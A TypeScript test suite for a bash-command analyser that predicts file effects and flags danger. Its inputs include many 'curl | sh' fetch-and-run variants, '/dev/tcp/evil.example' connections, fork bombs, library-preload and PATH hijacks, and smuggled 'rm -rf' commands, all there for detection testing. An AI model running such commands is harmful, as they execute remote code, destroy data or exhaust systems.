import { expect, test } from 'vitest';
import { describeFew } from '../../../test/fixtures/few-programs.ts';
import type { PlanContext, ShellCommand, ShellPlan } from '../../protocol/shell.ts';
import { planBash } from './index.ts';

const root = '/home/someone/project';

const scripts: Record<string, string> = {
  [`${root}/build.sh`]: '#!/bin/sh\ncd out && rm "$1"\n',
  [`${root}/lib.sh`]: 'clean() { rm "$1"; }\ncd sub\n',
  [`${root}/tool.py`]: '#!/usr/bin/env python3\nprint(1)\n',
};

function plan(line: string, more: Partial<PlanContext> = {}): ShellPlan {
  return planBash(line, {
    cwd: root,
    home: '/home/someone',
    env: { PWD: root, HOME: '/home/someone', PATH: '/home/someone/bin:/usr/bin:/bin' },
    describe: describeFew,
    readScript: (path) => scripts[path],
    ...more,
  });
}

const targets = ({ effects }: ShellCommand) =>
  effects.map(({ kind, target, note }) => [kind, target?.path ?? target?.text, note].filter(Boolean).join(' '));

const effectsOf = (line: string) => plan(line).commands.flatMap(targets);
const doubtsOf = (line: string) => {
  const { doubts, commands } = plan(line);
  return [...doubts, ...commands.flatMap((command) => command.doubts)].map(({ kind }) => kind);
};

/** Where the `rm`s of a line act. */
const removed = (line: string) =>
  plan(line)
    .commands.filter((command) => command.name === 'rm')
    .flatMap((command) => command.effects.map(({ target }) => target?.path ?? target?.text));

test.each<[string, (string | undefined)[]]>([
  ['rm x', [`${root}/x`]],
  ['rm /a/../b//c', ['/b/c']],
  ['rm ~/x ~+/y', ['/home/someone/x', `${root}/y`]],
  ['rm ~:a ~=~/b ~=c', ['/home/someone:a', '/home/someone=~/b', `${root}/~=c`]],
  ['rm /proc/self/root/etc/passwd', ['/etc/passwd']],
  ['rm /proc/self/cwd/x', [`${root}/x`]],
  ['cd a; rm x', [`${root}/a/x`]],
  ['cd a && rm x', [`${root}/a/x`]],
  ['cd -P -- a && rm x', [`${root}/a/x`]],
  ['cd / ; rm *', ['/*']],
  ['cd; rm x', ['/home/someone/x']],
  ['cd "$HOME/a"; rm x', ['/home/someone/a/x']],
  ['cd ..; rm x', ['/home/someone/x']],
  ['CDPATH=/ cd etc && rm x', ['/etc/x', `${root}/etc/x`]],
  ['CDPATH=..:/opt; cd etc; rm x', ['/home/someone/etc/x', '/opt/etc/x', `${root}/etc/x`]],
  ['CDPATH=.: cd etc && rm x', [`${root}/etc/x`]],
  ['cd a; cd -; rm x', [`${root}/x`]],
  ['cd a; rm "$OLDPWD/x" "$PWD/y"', [`${root}/x`, `${root}/a/y`]],
  ['(cd /); rm x', [`${root}/x`]],
  ['if cd a; then :; else rm x; fi', [`${root}/a/x`, `${root}/x`]],
  ['if ! cd a; then rm x; fi', [`${root}/a/x`, `${root}/x`]],
  ['! cd a && rm x', [`${root}/a/x`, `${root}/x`]],
  ['pushd a; pushd b; dirs -c; popd; rm x', [`${root}/a/b/x`]],
  ['pushd a; DIRSTACK[1]=/; popd; rm x', ['x']],
  ['cd a; OLDPWD=/etc; rm ~-/x', ['/etc/x']],
  ['readonly OLDPWD=/etc; cd a; cd -; rm x', ['/etc/x']],
  ['cd / | :; rm x', [`${root}/x`]],
  ['cd / & rm x', [`${root}/x`]],
  ['echo "$(cd /; rm a)"; rm x', ['/a', `${root}/x`]],
  ['{ cd /; }; rm x', ['/x']],
  ['f() { cd /; }; f; rm x', ['/x']],
  ['pushd /a; rm x; popd; rm y', ['/a/x', `${root}/y`]],
  ['pushd /a; pushd /b; popd; rm x', ['/a/x']],
  ['eval "cd /"; rm x', ['/x']],
  ['bash -c "cd /"; rm x', [`${root}/x`]],
  ['bash -c "cd / && rm x"', ['/x']],
  ['builtin cd /; rm x', ['/x']],
  ['command cd /; rm x', ['/x']],
  ['[ -d a ] && cd a; rm x', [`${root}/x`, `${root}/a/x`]],
  ['cd a || exit 1; rm x', [`${root}/a/x`]],
  ['cd a || { echo no; exit 1; }; rm x', [`${root}/a/x`]],
  ['cd a || cd b; rm x', [`${root}/a/x`, `${root}/b/x`]],
  ['if a; then cd /; fi; rm x', ['/x', `${root}/x`]],
  ['for d in a b; do (cd $d && rm x); done', [`${root}/a/x`, `${root}/b/x`]],
  ['for d in */; do (cd "$d" && rm x); done', [`${root}/*/x`]],
  ['for f in *.c; do rm "$f"; done', [`${root}/*.c`]],
  ['while a; do cd ..; rm x; done', ['/home/someone/x', 'x']],
  ['cd "$UNKNOWN"; rm x /y', ['x', '/y']],
  ['./build.sh a', [`${root}/out/a`]],
  ['bash build.sh a', [`${root}/out/a`]],
  ['. ./lib.sh; clean a', [`${root}/sub/a`]],
  ['exec bash build.sh a', [`${root}/out/a`]],
  ["echo 'rm a' > x.sh; bash x.sh", [`${root}/a`]],
  ["cat > x.sh <<'E'\nrm a\nE\nbash ./x.sh", [`${root}/a`]],
  ["printf '#!/bin/sh\\nrm a\\n' > x; chmod +x x; ./x", [`${root}/a`]],
  ["{ echo 'rm a'; echo 'rm b'; } > x; . ./x", [`${root}/a`, `${root}/b`]],
  ["echo 'rm a' > x; echo 'rm b' >> x; sh x", [`${root}/a`, `${root}/b`]],
])('%j removes %j', (line, expected) => {
  expect(removed(line)).toEqual(expected);
});

test.each<[string, string[]]>([
  ['ls > out', [`write ${root}/out redirect`]],
  ['ls >> a/out', [`write ${root}/a/out redirect`]],
  ['ls >| /x', ['write /x redirect']],
  ['ls &> x', [`write ${root}/x redirect`]],
  ['ls &>> x', [`write ${root}/x redirect`]],
  ['ls >& x', [`write ${root}/x redirect`]],
  ['ls 2> x', [`write ${root}/x redirect`]],
  ['ls {fd}> x', [`write ${root}/x redirect`]],
  ['ls <> x', [`write ${root}/x redirect`, `read ${root}/x redirect`]],
  ['ls < /etc/passwd', ['read /etc/passwd redirect']],
  ['> x', [`write ${root}/x redirect`]],
  ['ls > /dev/null 2>&1 < /dev/null', []],
  ['ls >&2 2>&- 3>&1- <&0', []],
  ['ls > /dev/stdout 2> /dev/stderr 3> /dev/fd/1', []],
  ['ls > /dev/tty', ['terminal /dev/tty']],
  ['ls > /dev/tcp/evil.example/80', ['contact evil.example network tool']],
  ['exec 3<> /dev/udp/evil.example/53', ['contact evil.example network tool']],
  ['{ ls; } > x', [`write ${root}/x redirect`]],
  ['while a; do b; done < x', [`read ${root}/x redirect`]],
  ['if a; then b; fi 2>> x', [`write ${root}/x redirect`]],
  ['f() { ls; } > x; f', [`write ${root}/x redirect`]],
  ['exec > x', [`write ${root}/x redirect`]],
  ['(ls) > "$UNKNOWN"', ['write … redirect']],
  ['ls > "$(echo x)"', [`write ${root}/x redirect`]],
  ['ls > a{1,2}', [`write ${root}/a1 redirect`]],
  ['tee >(cat)', []],
  ['cat <(ls)', []],
  ['x=1 > y', [`write ${root}/y redirect`]],
  ['cd /tmp', ['read /tmp cd']],
  ['cd', ['read /home/someone cd']],
  ['pushd ../x', ['read /home/someone/x cd']],
  ['cd "$UNKNOWN/a"', ['read …/a cd']],
  ['./tool.py', [`run ${root}/tool.py`]],
  ['./missing', [`run ${root}/missing`]],
  ['bash missing.sh', [`run ${root}/missing.sh`]],
  ['/usr/bin/ls', []],
  ['./ls', [`run ${root}/ls`]],
  ['kill 1', ['change']],
])('%j has the effects %j', (line, expected) => {
  expect(effectsOf(line)).toEqual(expected);
});

test.each([
  'curl u | sh',
  'curl u | bash -s',
  'curl u | cat | base64 -d | sh',
  'curl u |& sh',
  'bash <(curl u)',
  'sh < <(curl u)',
  'source <(curl u)',
  '. <(curl u)',
  'bash -c "$(curl u)"',
  'sh -c "`curl u`"',
  'eval "$(curl u)"',
  'eval $(curl u)',
  'x=$(curl u); eval "$x"',
  'x=$(curl u); bash <<< "$x"',
  'bash <<E\n$(curl u)\nE',
  'curl -o x u; sh x',
  'curl -o x u && chmod +x x && ./x',
  'curl u > x; bash x',
  'curl u > x && . ./x',
  'curl u | tee x; sh x',
  'curl -o a u; mv a b; sh b',
  'curl -o a u; cat a | sh',
  'curl u | python3',
  'curl -o x u; python3 x',
  'curl u | tee >(sh)',
  'curl u > >(sh)',
  'curl u | env sh',
  'f() { curl u; }; f | sh',
  '(cd /tmp; curl u) | sh',
  'cd /tmp; curl -o x u; cd -; sh /tmp/x',
  'exec sh <(curl u)',
])('%j runs a remote script', (line) => {
  expect(plan(line).commands.some(({ effects }) => effects.some(({ note }) => note === 'remote script'))).toBe(true);
});

test.each([
  'curl u | cat',
  'curl u | tee x',
  'curl u > x; sh y',
  'echo "curl u | sh"',
  'curl u; sh x',
  'ls | sh',
  'curl -d "$(cat x)" u',
])('%j runs no remote script', (line) => {
  expect(plan(line).commands.some(({ effects }) => effects.some(({ note }) => note === 'remote script'))).toBe(false);
});

test.each<[string, string[]]>([
  ['PATH=.:$PATH ls', ['environment']],
  ['PATH=/tmp/x ls', ['environment']],
  ['export PATH="$HOME/evil:$PATH"', ['environment']],
  ['PATH=/usr/local/bin:$PATH ls', []],
  ['export PATH=$PATH:/opt/tool/bin', []],
  ['LD_PRELOAD=./x.so ls', ['environment']],
  ['DYLD_INSERT_LIBRARIES=x ls', ['environment']],
  ['export BASH_ENV=x', ['environment']],
  ['env LD_LIBRARY_PATH=. ls', ['environment']],
  ['for PATH in /tmp; do ls; done', ['environment']],
  ['read PATH < x; ls', ['environment']],
  ['printf -v PATH /tmp; ls', ['environment']],
  ['declare -n p=PATH; p=/tmp; ls', ['environment']],
  ['GIT_DIR=/x git status', ['environment']],
  ['NODE_OPTIONS="--require ./x.js" npm test', ['environment']],
  ['NODE_OPTIONS=--max-old-space-size=4096 npm test', []],
  ['PAGER=cat GIT_PAGER=cat git log', []],
  ['EDITOR=true git commit', []],
  ['CI=1 NODE_ENV=test DEBUG=* PORT=3 FORCE_COLOR=1 npm test', []],
  ['PYTHONPATH=src python3 x', []],
  ['PYTHONPATH=/tmp/x python3 x', ['environment']],
  ['GIT_SSH_COMMAND="$X" git fetch', ['environment']],
  ['hash -p ./x ls', ['environment']],
  ['CDPATH=/; cd etc', ['environment', 'folder']],
])('%j leaves the doubts %j', (line, expected) => {
  expect(doubtsOf(line)).toEqual(expected);
});

test('a variable that holds a command is planned as that command', () => {
  const [git, ssh] = plan("GIT_SSH_COMMAND='rm -rf x' git fetch").commands;
  expect([git?.name, ssh?.name, ssh?.path]).toEqual(['git', 'rm', ['GIT_SSH_COMMAND']]);
});

test.each<[string, string[]]>([
  ['echo 你好 "世界" 🎉 👨‍👩‍👧 ❤️', []],
  ['git commit -m "zero\u200bwidth and \u00a0 blanks"', []],
  ["cat <<'E'\na\u00a0b\ufeff\nE", []],
  ['echo a\u3000b', []],
  ['l\u200bs', ['odd-characters', 'odd-characters']],
  ['echo a\u00a0b', ['odd-characters']],
  ['\ufeffls', ['odd-characters', 'odd-characters']],
  ['echo "\u202egpj.exe"', ['odd-characters']],
  ['echo \u2066x', ['odd-characters']],
  ['ls\r', ['odd-characters', 'odd-characters']],
  ['ls\r\nls', ['odd-characters', 'odd-characters']],
  ['echo "a\rb"', ['odd-characters']],
  ['echo\vx', ['odd-characters', 'odd-characters']],
  ['echo \f', ['odd-characters']],
  ['echo \x1b[31m', ['odd-characters']],
  ['echo \0', ['odd-characters']],
  ['echo \x9b', ['odd-characters']],
  ['echo \ud800', ['odd-characters']],
  ['\u0455udo id', ['odd-characters']],
  ['ls\ta\nls', []],
])('the characters of %j leave the doubts %j', (line, expected) => {
  expect(doubtsOf(line).filter((kind) => kind === 'odd-characters')).toEqual(expected);
});

test('an odd character is named by its code point, at its place', () => {
  expect(plan('echo a\u202eb').doubts).toEqual([
    { kind: 'odd-characters', text: 'It has U+202E in it', span: { start: 6, end: 7 } },
  ]);
});

test.each([
  ':(){ :|:& };:',
  ':() { : | : & }; :',
  ':(){:|:&};:',
  ': ( ) { : | : & } ; :',
  'boom(){ boom|boom& };boom',
  'function b { b | b & }; b',
  'f()\n{\nf | f &\n}\nf',
  'f(){ f & f; }; f',
  'f(){ f & f & }; f',
  'f(){ $(f) $(f); }; f',
  'f(){ "f" | f & }; f',
  'a(){ b|b& }; b(){ a; }; a',
  "bash -c ':(){ :|:& };:'",
  "eval ':(){ :|:& };:'",
  "bash <<'E'\n:(){ :|:& };:\nE",
])('%j is a fork bomb', (line) => {
  expect(plan(line).isForkBomb).toBe(true);
});

test.each([
  "echo ':(){ :|:& };:'",
  'grep ":(){:|:&};:" x',
  'f(){ ls | cat & }; f',
  'f(){ f; }; f',
  'fact(){ [ $1 -le 1 ] && echo 1 || echo $(( $1 * $(fact $(( $1 - 1 ))) )); }; fact 5',
  'a | a &',
  'f(){ echo f | cat & }; f; f',
])('%j is no fork bomb', (line) => {
  expect(plan(line).isForkBomb).toBe(false);
});

test.each<[string, string, string]>([
  ['ls; rm x', 'rm', 'rm x'],
  ['echo "$(rm x)"', 'rm', 'rm x'],
  ['a | (b && rm x)', 'rm', 'rm x'],
  ["bash -c 'ls; rm x'", 'rm', "'ls; rm x'"],
  ["eval 'rm x'", 'rm', "eval 'rm x'"],
  ['env A=1 rm x', 'rm', 'rm x'],
  ['cat <<E\n$(rm x)\nE', 'rm', 'rm x'],
  ['echo `echo \\`rm x\\``', 'rm', '`echo \\`rm x\\``'],
  ['f() { rm x; }; f', 'rm', 'rm x'],
])('in %j the span of %s is %j', (line, name, expected) => {
  const span = plan(line).commands.find((command) => command.name === name)?.span;
  expect(span && line.slice(span.start, span.end)).toBe(expected);
});

test.each<[string, string[]]>([
  ['a | b', ['a', 'pipe b']],
  ['a $(b "$(c)")', ['a', '$() b', '$() $() c']],
  ["env bash -c 'a | b'", ['env', 'env bash', 'env sh -c a', 'env sh -c pipe b']],
  ['(a); { b; }', ['() a', 'b']],
  ['a & b', ['& a', 'b']],
  ['f() { a; }; f', ['f', 'f a']],
  ['eval a', ['eval', 'eval a']],
  ['exec -a x a', ['exec', 'exec a']],
])('%j is planned as %j', (line, expected) => {
  expect(plan(line).commands.map(({ path, name }) => [...path, name].join(' '))).toEqual(expected);
});

test('a target that is not known says what it starts with and what it would be without the unknown part', () => {
  const [one, two] = plan('rm "$X"/* /var/log/$Y').commands[0]!.effects;
  expect(one?.target).toEqual({ text: '…/*', ifEmpty: '/*', isPattern: true });
  expect(two?.target).toEqual({ text: '/var/log/…', within: '/var/log', ifEmpty: '/var/log', isPattern: false });
});

test('a command after a name that may vanish is planned under both readings', () => {
  const { commands } = plan('$MAYBE rm x');
  expect(commands.map(({ name }) => name)).toEqual([null, 'rm']);
  expect(commands[0]?.doubts.map(({ kind }) => kind)).toEqual(['dynamic-command']);
});

test.for([
  ['sh "$(made)"-c "rm -rf x"', true],
  ['sh "$X"c "rm -rf x"', true],
  ['sh "$X"', true],
  ['sh "$X/build.sh"', false],
  ['sh "$X.sh"', false],
  ["echo 'a\nb'\\", true],
  ['echo $HOME\\\na', true],
  ['echo $HOME \\\na', false],
  ["echo 'a\nb' \\\nc", false],
] as const)('%j leaves a doubt: %j', ([line, isDoubted]) => {
  const { doubts, commands } = plan(line);
  expect([...doubts, ...commands.flatMap((command) => command.doubts)].length > 0).toBe(isDoubted);
});

test.for([
  ['x=a; echo ${x/$(rm /a)/b}', 'rm'],
  ['x=a; echo ${x//`rm /a`/b}', 'rm'],
  ['x=a; echo "${x/#<(rm /a)/b}"', 'rm'],
  ['f() { declare -g x=rm; }; x=ls; f; $x a', 'rm'],
  ['a=([5]=rm); ${a[5]} x', null],
  ['declare -a a=([2]=rm); "${a[2]}" x', null],
  ['f() { local x=ls; declare -g x=rm; }; f; $x a', null],
  ['echo "rm x" > a.sh; chmod +x a.sh; ./a.sh', 'rm'],
] as const)('%j runs %j, null for what is not known', ([line, name]) => {
  expect(plan(line).commands.map((command) => command.name)).toContain(name);
});

test('variables of the environment that are known are used, and those of a child are only the exported ones', () => {
  const env = { PWD: root, HOME: '/home/someone', TOOL: 'rm' };
  const names = (line: string) => plan(line, { env }).commands.map(({ name }) => name);
  expect(names('$TOOL x')).toEqual(['rm']);
  expect(names("bash -c '$TOOL x'")).toEqual(['bash', 'rm']);
  expect(names("TOOL=ls; bash -c '$TOOL x'")).toEqual(['bash', 'ls']);
  expect(names("OTHER=ls; bash -c '$OTHER x'")).toEqual(['bash', null, 'x']);
  expect(names("export OTHER=ls; bash -c '$OTHER x'")).toEqual(['export', 'bash', 'ls']);
});

test('what stands before a cut is still planned, and the cut is a doubt', () => {
  const long = plan(`rm x; ${'# '.repeat(40_000)}`);
  expect(long.commands[0]?.name).toBe('rm');
  expect(long.doubts.map(({ kind }) => kind)).toContain('too-large');
  const many = plan('echo x; '.repeat(530));
  expect(many.commands).toHaveLength(512);
  expect(many.doubts.map(({ kind }) => kind)).toContain('too-large');
  const words = plan(`rm ${'a '.repeat(20_000)}`);
  expect(words.commands[0]?.name).toBe('rm');
});

test('a process substitution that touches a word is part of it', () => {
  const words = (line: string) => plan(line).commands.map(({ argv }) => argv.length);
  expect(words('rm a<(ls)c d')).toEqual([3, 1]);
  expect(words("rm >(ls)''")).toEqual([2, 1]);
  expect(words('for i in a<(ls)c; do rm $i; done')).toEqual([1, 2]);
  expect(doubtsOf('a=b<(ls)c rm x')).toContain('arguments');
});

test('a variable whose name begins on the next line is not taken for text', () => {
  expect(doubtsOf('ls$\\\nrm x')).toContain('syntax');
  expect(doubtsOf('ls "a$\\\n" x')).toEqual([]);
});

test('a here-document without an end ends with its line', () => {
  const read = (line: string) => plan(line).commands[0]?.stdin;
  for (const line of ['rm <<E\na b', "rm <<'E'\na b", 'rm <<E\na b\nE'])
    expect(read(line), line).toMatchObject({ kind: 'text', text: { pieces: ['a b\n'] } });
});

test('code within code that cannot be read at all is in doubt', () => {
  for (const line of ["bash -c '|rm x'", "eval '&& rm x'", "LESSOPEN='|./x %s' cat a"])
    expect(doubtsOf(line), line).toContain('syntax');
  expect(doubtsOf("eval ''; bash -c '# rm x'")).toEqual([]);
});

test('a cd into a folder that is not there leaves the shell where it is', () => {
  const isFolder = (path: string) => path !== `${root}/nowhere`;
  const places = (line: string) =>
    plan(line, { isFolder })
      .commands.filter(({ name }) => name === 'rm')
      .map(({ cwd }) => cwd);
  for (const line of [
    'cd nowhere; rm x',
    'cd nowhere && ls; rm x',
    'ls; pushd nowhere; rm x',
    "sh -c 'cd nowhere; rm x'",
  ])
    expect(places(line), line).toContain(root);
  for (const line of [
    'cd nowhere && rm x',
    'cd nowhere || exit; rm x',
    'mkdir nowhere; cd nowhere; rm x',
    "mkdir nowhere; sh -c 'cd nowhere; rm x'",
  ])
    expect(places(line), line).toEqual([`${root}/nowhere`]);
  expect(places('cd out; rm x')).toEqual([`${root}/out`]);
});

test('braces leave the code in $[ ] as it is', () => {
  expect(plan('echo $[ $({ls ,rm }a; echo 1) ]').commands.map(({ name }) => name)).toEqual(['echo', '{ls', 'echo']);
});

test('set with an option that there is none leaves the arguments as they were', () => {
  expect(doubtsOf('set --{ rm x; "$@" y')).toContain('arguments');
  expect(doubtsOf('set -- ls x; "$@" y')).toEqual([]);
});

test('the names that a search finds lie below the folders it looks through', () => {
  const within = (line: string) =>
    plan(line).commands.flatMap(({ effects }) => effects.map(({ target }) => target?.within));
  const find: PlanContext['describe'] = (invocation) =>
    invocation.name === 'find'
      ? {
          effects: invocation.args.map((target) => ({ kind: 'read', target, note: 'found' })),
          nested: [],
          doubts: [],
          isQuiet: true,
        }
      : describeFew(invocation);
  const below = (line: string) =>
    plan(line, { describe: find })
      .commands.filter(({ name }) => name === 'rm')
      .flatMap(({ effects }) => effects.map(({ target }) => target?.within));
  expect(within('rm "$UNKNOWN"')).toEqual([undefined]);
  expect(below('find / | while read f; do rm "$f"; done')).toEqual(['/']);
  expect(below('rm $(find /etc)')).toEqual(['/etc']);
  expect(below('rm $(find src test)')).toEqual([root]);
});

test('the place of a program is that program, or nothing', () => {
  const names = (line: string) => plan(line).commands.map(({ name }) => name);
  expect(names('T=$(command -v rm); "$T" x')).toEqual(['command', 'rm']);
  expect(names('$(command -v rm) ls x')).toEqual(['rm', 'command', 'ls']);
  expect(doubtsOf('T=$(command -v rm || command -v ls); "$T" x')).toEqual([]);
  expect(names('T=$(command -v rm || command -v ls); "$T" x')).toContain('ls');
  expect(doubtsOf('T=$(command -v "$X"); "$T" x')).toContain('dynamic-command');
});

test('a pattern in the place of a program is planned as the programs it can be', () => {
  const programs = ['rm', 'rg', 'ls', ...Array.from({ length: 20 }, (_, at) => `many${at}`)];
  const names = (line: string) => plan(line, { programs }).commands.map(({ name }) => name);
  expect(names('/bin/r? x')).toEqual([null, 'rm', 'rg']);
  expect(names('/???/r[m] x')).toEqual([null, 'rm']);
  expect(names('./r? x')).toEqual([null]);
  expect(names('/bin/m* x')).toEqual([null]);
});

test('code within code is followed sixteen levels deep, and no further without a doubt', () => {
  const nest = (levels: number) => `${'echo $('.repeat(levels)}rm x${')'.repeat(levels)}`;
  expect(plan(nest(16)).commands.map(({ name }) => name)).toContain('rm');
  expect(doubtsOf(nest(16))).toEqual([]);
  expect(doubtsOf(nest(17))).toContain('too-deep');
  expect(doubtsOf(`${'eval '.repeat(30)}'rm x'`)).not.toEqual([]);
});

const size = 64 * 1024;
test.each<[string, string]>([
  ['statements', 'a;'.repeat(size / 2)],
  ['lines', 'a\n'.repeat(size / 2)],
  ['pipes', `${'a|'.repeat(size / 2 - 1)}a`],
  ['open substitutions', '$('.repeat(size / 2)],
  ['nested substitutions', `${'$('.repeat(9_000)}x${')'.repeat(9_000)}`],
  ['quoted substitutions', '"$('.repeat(size / 3)],
  ['backquotes', '`'.repeat(size)],
  ['braces', '{a,'.repeat(size / 3)],
  ['brace products', `echo ${'{a,b}'.repeat(30)}`],
  ['a long sequence', 'echo {1..9999999}'],
  ['defaults', '${x:-'.repeat(size / 5)],
  ['arithmetic', `rm $((1${'+1'.repeat(30_000)}))`],
  ['arithmetic brackets', `echo $((${'('.repeat(30_000)}))`],
  ['here-documents', '<<a '.repeat(size / 4)],
  ['substitutions in a here-document', `cat <<E\n${'$(a)\n'.repeat(size / 5)}E`],
  ['words', `rm ${'a '.repeat(size / 2 - 3)}`],
  ['quotes', '"'.repeat(size - 1)],
  ['patterns', `x=${'a'.repeat(490)}; echo ${'${x%%*b*b*b*}'.repeat(2_000)}`],
  ['doubling', `x=aa;${'x=$x$x;'.repeat(60)}echo $x`],
  ['loops in loops', 'for i in {1..999}; do for j in {1..999}; do a $i $j; done; done'],
  ['branches', Array.from({ length: 1_500 }, (_, at) => `if a; then x${at}=1; fi`).join(';')],
  ['recursion', 'f() { f a; f b; f c; f d; }; f'],
  ['cases', 'case x in '.repeat(size / 10)],
  ['functions', 'f(){ :; };'.repeat(6_000)],
  ['hidden code', "a='x[$(rm)]';".repeat(5_000)],
  ['conditions', `[[ ${'( '.repeat(20_000)}a`],
  [
    'nothing but noise',
    Array.from({ length: size }, (_, at) => '$`"\'(){}[]<>|&;\\#*?~!= ab\n'[(at * 7919 + (at >> 3)) % 27]).join(''),
  ],
])('64 KiB of %s are planned without a throw, with a doubt or at most 512 commands', (_, text) => {
  const { commands, doubts } = plan(text);
  expect(commands.length).toBeLessThanOrEqual(600);
  expect(doubts.length > 0 || commands.length > 0).toBe(true);
});
